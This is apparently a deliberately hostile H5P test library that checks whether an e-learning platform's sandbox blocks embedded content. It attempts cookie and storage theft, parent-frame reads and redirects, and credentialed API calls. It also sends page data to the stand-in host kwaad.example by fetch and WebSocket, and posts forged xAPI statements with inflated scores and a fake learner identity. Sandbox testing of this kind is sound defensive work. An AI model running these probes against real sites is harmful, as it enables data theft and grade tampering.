/* A library that tries what it can. What it got stands in window.got; every entry should say 'nothing'. */
H5P.Kwaad = function () {
  H5P.EventDispatcher.call(this);
  var got = (window.got = {});
  function attempt(name, action) {
    try {
      var found = action();
      got[name] = found === null || found === undefined || found === "" ? "nothing" : String(found).slice(0, 200);
    } catch (error) {
      got[name] = "nothing";
    }
  }
  function call(name, address, options) {
    got[name] = "waiting";
    fetch(address, options).then(
      function (reply) { got[name] = "reply " + reply.status; },
      function () { got[name] = "nothing"; }
    );
  }
  function own(owner, name) {
    delete window[name];
    return Object.getOwnPropertyDescriptor(owner, name).get.call(owner === Document.prototype ? document : window);
  }
  this.attach = function ($container) {
    $container.get(0).textContent = "Kwaad speelt.";
    attempt("cookies", function () { delete document.cookie; return own(Document.prototype, "cookie"); });
    attempt("local storage", function () { return own(window, "localStorage") || window.localStorage.length + 1; });
    attempt("session storage", function () { delete window.sessionStorage; return window.sessionStorage.length + 1; });
    attempt("databases", function () { indexedDB.open("kortwijs"); return "a database"; });
    attempt("service worker", function () { return navigator.serviceWorker && navigator.serviceWorker.controller; });
    attempt("page around", function () { return parent.document.title; });
    attempt("cookies of the page around", function () { return parent.document.cookie; });
    attempt("top page", function () { return top.document.body.innerHTML; });
    attempt("storage of the page around", function () { return parent.localStorage.length + 1; });
    attempt("other frame", function () {
      for (var i = 0; i < parent.length; i++) if (parent[i] !== window) return parent[i].document.title;
    });
    attempt("frame element", function () { return window.frameElement; });
    attempt("another page on top", function () { top.location.href = "/mijn/?weg"; return "moved"; });
    attempt("another page around", function () { parent.location.replace("/mijn/?weg"); return "moved"; });
    attempt("window", function () { return window.open("/mijn/?open"); });
    attempt("text as code", function () { return (0, eval)("1 + 1"); });
    attempt("where it came from", function () { return document.referrer; });
    attempt("worker", function () {
      var url = URL.createObjectURL(new Blob(["postMessage(1)"]));
      new Worker(url).onmessage = function () { got["worker runs"] = "a worker"; };
    });
    attempt("form", function () {
      var form = document.createElement("form");
      form.action = "/leren/events";
      form.method = "post";
      form.target = "_top";
      document.body.appendChild(form);
      form.submit();
    });
    ["script", "iframe", "img"].forEach(function (tag) {
      var one = document.createElement(tag);
      got[tag + " of the site"] = "waiting";
      one.onload = function () { got[tag + " of the site"] = tag === "iframe" ? "nothing" : "loaded"; };
      one.onerror = function () { got[tag + " of the site"] = "nothing"; };
      one.src = { script: "/static/lms/nothing.js?proef", iframe: "/mijn/?frame", img: "/static/lms/icon.svg" }[tag];
      document.body.appendChild(one);
    });
    call("api with cookies", "/leren/h5p/H5P/p-h5p-1", { credentials: "include" });
    call("api without cookies", "/leren/h5p/H5P/p-h5p-1");
    call("page of the learner", "/mijn/", { credentials: "include" });
    call("writing an event", "/leren/events", { method: "POST", credentials: "include", mode: "no-cors", body: "{}" });
    call("state of another", "/leren/h5p/H5P/p-h5p-2", { method: "PUT", credentials: "include", body: "{}" });
    call("record store", "/xapi/statements", { credentials: "include" });
    call("another site", "https://kwaad.example/haal?wat=" + encodeURIComponent(document.title));
    attempt("beacon", function () { navigator.sendBeacon("/leren/events", "{}"); });
    attempt("socket", function () { new WebSocket("wss://kwaad.example/").onopen = function () { got["socket opens"] = "a socket"; }; });
    // what a stranger may say, in every wrong way
    [null, 1, "x", [], { kw: "h5p" }, { kw: "h5p", type: "height", height: 1e9 }, { kw: "h5p", type: "height", height: "x" },
      { kw: "h5p", type: "state", part: {}, name: 1, data: null }, { kw: "h5p", type: "statement", statement: null },
      { kw: "h5p", type: "statement", statement: { verb: { id: "http://adlnet.gov/expapi/verbs/voided" }, object: { id: "x" } } },
      { kw: "h5p", type: "state", part: "0", name: "state", data: "x".repeat(100000) },
      { kw: "h5p", type: "statement", statement: {
        id: "1", actor: { mbox: "mailto:bram@voorbeeld.nl" }, verb: { id: "http://adlnet.gov/expapi/verbs/progressed" },
        object: { id: "/../e-kaart" }, result: { score: { raw: 999, max: 1, scaled: 999 } } } },
    ].forEach(function (said) { parent.postMessage(said, "*"); });
    for (var i = 0; i < 1000; i++) {
      parent.postMessage({ kw: "h5p", type: "statement", statement: {
        verb: { id: "http://adlnet.gov/expapi/verbs/progressed" }, object: { id: "?subContentId=" + i } } }, "*");
    }
  };
};
H5P.Kwaad.prototype = Object.create(H5P.EventDispatcher.prototype);
